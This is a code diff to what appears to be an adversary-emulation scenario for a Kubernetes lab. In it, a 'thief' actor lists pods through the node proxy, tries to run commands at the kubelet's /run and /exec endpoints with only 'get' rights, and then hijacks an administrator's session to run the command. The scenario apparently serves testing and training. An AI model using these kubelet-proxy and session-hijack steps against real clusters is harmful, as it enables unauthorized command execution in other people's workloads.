@@ -11,11 +11,14 @@ def _play(stage: Stage) -> None:
     with stage.step("list the node's pods", thief, "discovery", ("C12",)):
         stage.must(thief.get(f"{proxy}/pods"))
         thief.get(f"{proxy}/configz")
-    with stage.step("run a command at the kubelet", thief, "execution", ("C12", "C13")):
-        pod = next(iter(stage.lab.dashboard().get("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb").names))
-        thief.post(f"{proxy}/run/shop/{pod}/web", b"cmd=id")
-        path = f"{proxy}/exec/shop/{pod}/web?command=id&output=1"
-        stage.must(websocket(thief, path, "v4.channel.k8s.io", seconds=1))  # a get, to the server and to its roles
+    pod = next(iter(stage.lab.dashboard().get("/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb").names))
+    with stage.step("try to run a command with the right to get", thief, "execution", ("C12", "C13")):
+        thief.post(f"{proxy}/run/shop/{pod}/web?cmd=id", b"")
+        # A stream needs only get; but when it upgrades, the API server does not pass the command on.
+        websocket(thief, f"{proxy}/exec/shop/{pod}/web?command=id&output=1", "v4.channel.k8s.io", seconds=1)
+    admin = stage.hijack("carol")
+    with stage.step("run it with an administrator's session", admin, "execution", ("C12", "C13")):
+        stage.must(admin.post(f"{proxy}/run/shop/{pod}/web?cmd=id", b"", {"Accept": "*/*"}))
 
 
 SCENARIO = Scenario(
